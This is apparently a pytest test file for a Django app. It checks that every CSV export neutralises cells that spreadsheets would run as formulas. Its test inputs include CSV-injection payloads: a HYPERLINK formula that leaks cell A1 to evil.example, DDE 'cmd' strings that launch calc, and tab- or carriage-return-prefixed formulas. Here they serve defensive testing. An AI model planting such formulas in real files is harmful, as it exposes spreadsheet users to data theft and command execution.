"""CSV exports open safely in a spreadsheet: no cell of any export starts with what a
spreadsheet runs as a formula, whatever people typed. Every export writes through one
helper (core/csv.py); the guards below fail when a CSV is written another way or a CSV
URL is added without a test here.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from core.csv import FORMULA_STARTS, csv_text, spreadsheet_safe, unquote
from programs.models import User
from teams.models import PeopleImport
from tests.conftest import Cast

ROOT = Path(__file__).resolve().parents[2]
APP_DIRS = ("config", "core", "programs", "teams", "projects", "reflections", "dashboards")
# What people could type to make a spreadsheet act: formulas, and the same behind a tab or
# a carriage return, which some spreadsheets skip.
FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def formula_cells(text: str) -> list[str]:
    """The cells a spreadsheet would run."""
    return [cell for row in rows_of(text) for cell in row if cell.startswith(FORMULA_STARTS)]


# The helper. -------------------------------------------------------------------------------


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_starts_like_a_formula_gets_a_quote_in_front(value: str) -> None:
    assert spreadsheet_safe(value) == "'" + value
    assert unquote(spreadsheet_safe(value)) == value
    assert not formula_cells(csv_text([[value, "plain"]]))


@pytest.mark.parametrize("value", ["Nurse", "2026-W41", "'quoted", "a=b", "", None, 42])
def test_other_cells_are_written_as_they_are(value: object) -> None:
    assert spreadsheet_safe(value) == ("" if value is None else str(value))
    assert unquote(str(value)) == str(value)


def test_csv_is_written_only_through_the_helper() -> None:
    writers = [
        str(path.relative_to(ROOT))
        for folder in APP_DIRS
        for path in (ROOT / folder).rglob("*.py")
        if path != ROOT / "core" / "csv.py"
        and ("csv.writer(" in (text := path.read_text()) or "DictWriter(" in text)
    ]
    assert writers == [], "write CSV with core.csv.csv_text, which makes cells safe"


# Every export. ------------------------------------------------------------------------------


def csv_url_names() -> set[str]:
    """Every URL of ours that answers a .csv file."""
    found: set[str] = set()

    def walk(patterns: list[URLPattern | URLResolver], namespace: str) -> None:
        for entry in patterns:
            if isinstance(entry, URLResolver):
                inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
                walk(entry.url_patterns, inner)
            elif ".csv" in str(entry.pattern):
                found.add(f"{namespace}{entry.name}")

    walk(get_resolver().url_patterns, "")
    return found


TESTED_EXPORTS = {
    "teams:people_export",
    "teams:import_example",
    "teams:import_rejected",
    "dashboards:analytics_csv",
    "dashboards:report_csv",
}


def test_every_csv_url_is_tested_here() -> None:
    assert csv_url_names() == TESTED_EXPORTS


def download(client: Client, url: str, **params: str) -> str:
    response = client.get(url, params)
    assert response.status_code == 200, url
    assert response["Content-Type"].startswith("text/csv")
    return response.content.decode()


@pytest.fixture
def formulas_everywhere(cast: Cast) -> Cast:
    """Formulas in every field that an export carries: names, email, unit, job title and
    team, for people on both teams."""
    first, second, third, fourth, tab, cr = FORMULAS
    User.objects.filter(pk=cast.participant.pk).update(
        first_name=first, last_name=second, email="-1@example.org"
    )
    User.objects.filter(pk=cast.teammate.pk).update(first_name=tab, last_name=cr)
    for user, unit, job in ((cast.participant, third, fourth), (cast.teammate, tab, cr)):
        profile = user.profiles.get()
        profile.job_title = job
        profile.save()
        profile.unit.name = unit
        profile.unit.save()
    cast.team.name = fourth
    cast.team.save()
    cast.other_team.name = first
    cast.other_team.save()
    return cast


@pytest.mark.parametrize("one_cohort", [False, True], ids=["whole program", "one cohort"])
def test_people_export_has_no_formula_cells_and_keeps_every_value(
    formulas_everywhere: Cast, one_cohort: bool
) -> None:
    cast = formulas_everywhere
    params = {"cohort": str(cast.team.cohort_id)} if one_cohort else {}
    client = cast.client_for("program_admin")
    text = download(client, reverse("teams:people_export", args=[cast.program.pk]), **params)
    assert formula_cells(text) == []
    header, *rows = rows_of(text)
    people = {unquote(row[0]): dict(zip(header, map(unquote, row), strict=True)) for row in rows}
    first, second, third, fourth, tab, cr = FORMULAS
    expected = {
        "-1@example.org": {
            "first_name": first,
            "last_name": second,
            "unit": third,
            "job_title": fourth,
            "team": fourth,
        },
        cast.teammate.email: {"first_name": tab, "last_name": cr, "unit": tab, "job_title": cr},
    }
    for email, values in expected.items():
        # Each value is there, as typed once the quote is taken off.
        assert {name: people[email][name] for name in values} == values


def test_people_example_file_is_the_header_only(cast: Cast) -> None:
    text = download(cast.client_for("program_admin"), reverse("teams:import_example"))
    assert len(rows_of(text)) == 1
    assert formula_cells(text) == []


def test_rows_not_imported_come_back_with_no_formula_cells_and_every_value(cast: Cast) -> None:
    """The rows a people import refused, downloaded to be corrected: what the admin's file
    held is written back as it was, but never as something a spreadsheet runs."""
    typed = [[value, "participant", value] for value in FORMULAS]
    # The file as a spreadsheet program saves it: the formulas as they are, unquoted.
    out = io.StringIO()
    csv.writer(out).writerows([["email", "role", "job title"], *typed])
    people_import = PeopleImport.objects.create(
        program=cast.program,
        cohort=cast.team.cohort,
        uploaded_by=cast.program_admin,
        filename="people.csv",
        content=out.getvalue(),
    )
    url = reverse("teams:import_rejected", args=[cast.program.pk, people_import.pk])
    text = download(cast.client_for("program_admin"), url)
    assert formula_cells(text) == []
    header, *rows = rows_of(text)
    assert header == ["email", "role", "job title", "reason"]
    assert [[unquote(cell) for cell in row[:3]] for row in rows] == typed
    assert all("spreadsheet would run as a formula" in row[3] for row in rows)


ANALYTICS_TABLES = ("weekly", "units", "disciplines", "teams", "phases")


@pytest.mark.parametrize("table", ANALYTICS_TABLES)
def test_analytics_csv_has_no_formula_cells(formulas_everywhere: Cast, table: str) -> None:
    cast = formulas_everywhere
    url = reverse("dashboards:analytics_csv", args=[cast.program.pk, table])
    text = download(cast.client_for("program_admin"), url)
    assert formula_cells(text) == []
    labels = {unquote(row[0]) for row in rows_of(text)[1:]}
    if table == "units":
        assert {FORMULAS[2], "\t=1+1"} <= labels
    if table == "teams":
        assert {FORMULAS[3], FORMULAS[0]} <= labels


def test_every_analytics_table_is_tested(cast: Cast) -> None:
    from dashboards.analytics import build_analytics

    found = build_analytics(program=cast.program, today=cast.program.starts_on)
    assert tuple(table.slug for table in found.tables) == ANALYTICS_TABLES


def test_outcome_report_csv_has_no_formula_cells_and_keeps_the_titles(
    formulas_everywhere: Cast,
) -> None:
    cast = formulas_everywhere
    cast.project.title = FORMULAS[0]
    cast.project.save(update_fields=["title"])
    url = reverse("dashboards:report_csv", args=[cast.program.pk])
    text = download(cast.client_for("program_admin"), url)
    assert formula_cells(text) == []
    cells = {unquote(cell) for row in rows_of(text)[1:] for cell in row}
    assert FORMULAS[0] in cells
